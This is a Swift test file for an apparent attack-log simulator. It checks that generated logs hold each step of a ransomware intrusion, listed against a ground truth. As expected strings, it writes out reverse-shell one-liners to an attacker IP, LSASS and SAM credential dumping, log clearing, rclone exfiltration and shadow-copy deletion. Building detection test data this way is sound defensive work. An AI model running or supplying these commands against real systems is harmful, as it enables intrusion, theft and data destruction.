import Foundation
import Testing

@testable import TocsinSimulation

/// ground-truth.jsonl names real attack events, every step, in the contract's order.
@Suite struct GroundTruthTests {
    @Test func everyLinePointsAtAnEventWithItsHostAndTime() throws {
        let run = try SimulationRun.standardRun()
        let truth = try run.truth()
        #expect(!truth.isEmpty)
        let files: [String: [Substring]] = Dictionary(
            uniqueKeysWithValues: [SimulationFile.windows, .linux, .firewall].map { ($0.name, run.lines($0)) })
        for entry in truth {
            let lines = try #require(files[entry.file], "unknown file \(entry.file)")
            try #require(entry.line >= 1 && entry.line <= lines.count, "line \(entry.line) outside \(entry.file)")
            let object = try #require(
                try JSONSerialization.jsonObject(with: Data(lines[entry.line - 1].utf8)) as? [String: Any])
            let (host, time) = hostAndTime(object)
            #expect(host == entry.host, "\(entry.file):\(entry.line)")
            #expect(time == entry.timestamp, "\(entry.file):\(entry.line)")
            #expect(entry.technique.hasPrefix("T"))
        }
    }

    @Test func allStepsArePresentInTheContractsOrder() throws {
        let truth = try SimulationRun.standardRun().truth()
        var seen: [String] = []
        for entry in truth where seen.last != entry.step { seen.append(entry.step) }
        #expect(seen == AttackStep.allCases.map(\.rawValue))
        let times = truth.compactMap { milliseconds($0.timestamp) }
        #expect(times == times.sorted())
    }

    @Test func eachStepsEventsShowWhatTheStepDoes() throws {
        let run = try SimulationRun.standardRun()
        let files: [String: [Substring]] = Dictionary(
            uniqueKeysWithValues: [SimulationFile.windows, .linux, .firewall].map { ($0.name, run.lines($0)) })
        var text: [String: String] = [:]
        for entry in try run.truth() {
            text[entry.step, default: ""] += String(files[entry.file]?[entry.line - 1] ?? "") + "\n"
        }
        let expected: [AttackStep: [String]] = [
            .initialAccess: [#""LogonType":"10""#, "185.220.101.47", "svc_vpn", "WINWORD.EXE", "-nop -w hidden -enc "],
            .credentialTheft: [
                #"comsvcs.dll, MiniDump"#, #""GrantedAccess":"0x1fffff""#, "lsass.exe", "ntdsutil.exe",
                #"reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save"#, #""TicketEncryptionType":"0x17""#, #""EventID":4625"#,
            ],
            .lateralMovement: [
                "PSEXESVC", #"%SystemRoot%\\PSEXESVC.exe"#, "WmiPrvSE.exe", "wsmprovhost.exe", "Net.Sockets.TCPClient",
                "ncat.exe 185.220.101.47 4444 -e cmd.exe", "bash -i >& /dev/tcp/185.220.101.47/4444 0>&1",
                "python3 -c 'import socket,subprocess,os;", "socat exec:'bash -li',pty,stderr tcp:185.220.101.47:4444",
                "perl -e 'use Socket;",
            ],
            .persistence: [
                "net user svc_backup2", "net localgroup administrators svc_backup2 /add", #""EventID":4720"#,
                #""EventID":4732"#, #"C:\\Users\\Public\\svchost.exe""#,
                #"schtasks /create /tn \"MicrosoftEdgeUpdateTaskCore\" /tr C:\\Users\\Public\\update.exe /sc minute"#,
                #"\\CurrentVersion\\Run\\"#, "__EventFilter", "/root/.ssh/authorized_keys", "curl", "/etc/cron.d/",
            ],
            .defenseEvasion: [
                "wevtutil cl Security", #""EventID":1102"#, "Set-MpPreference -DisableRealtimeMonitoring $true",
                #""EventID":5001"#, "net stop VeeamBackupSvc", "sc config VeeamBackupSvc start= disabled",
            ],
            .discoveryAndDatabase: [
                #"C:\\Users\\Public\\db\\praxis.mdf"#, #""EventID":4663"#, #"D:\\PraxisDB\\praxis.mdf"#,
                "/all /out C:\\\\Users\\\\Public\\\\export.csv", #""dst_ip":"10.20.9.10","dst_port":8443"#,
                #""DestinationPort":"8443""#,
            ],
            .exfiltration: [" a -p", #"C:\\Users\\Public\\p.7z D:\\PraxisDB"#, "rclone.exe copy", "mega:", #""dst_ip":"185.220.101.47","dst_port":443"#],
            .impactPrecursors: [
                "vssadmin.exe delete shadows /all /quiet", "wmic shadowcopy delete", "wbadmin delete catalog -quiet",
                "bcdedit /set {default} recoveryenabled no",
            ],
            .encryption: [".medlock", "README_RESTORE.txt", #"D:\\Shares\\"#],
        ]
        for (step, needles) in expected {
            let haystack = text[step.rawValue] ?? ""
            for needle in needles { #expect(haystack.contains(needle), "\(step.rawValue) lacks \(needle)") }
        }
    }

    @Test func scenarioNoneHasAnEmptyGroundTruth() throws {
        let run = try SimulationRun(SimulationOptions(hosts: 20, durationSeconds: 300, rate: 20, scenario: .none))
        #expect(run.lines(.groundTruth).isEmpty)
        #expect(run.summary.attackEvents == 0)
        #expect(run.summary.totalEvents == 6000)
        for file in [SimulationFile.windows, .linux, .firewall] {
            let text = String(decoding: run.bytes[file] ?? [], as: UTF8.self)
            #expect(!text.contains("185.220.101.47"))
        }
    }

    @Test func attackFitsTheShortestAndALongRun() throws {
        for (duration, hosts, rate) in [(1200, 16, 20), (6 * 3600, 60, 1)] {
            let run = try SimulationRun(SimulationOptions(hosts: hosts, durationSeconds: duration, rate: rate))
            let truth = try run.truth()
            let steps = Set(truth.map(\.step))
            #expect(steps.count == AttackStep.allCases.count, "\(duration) s")
        }
    }
}
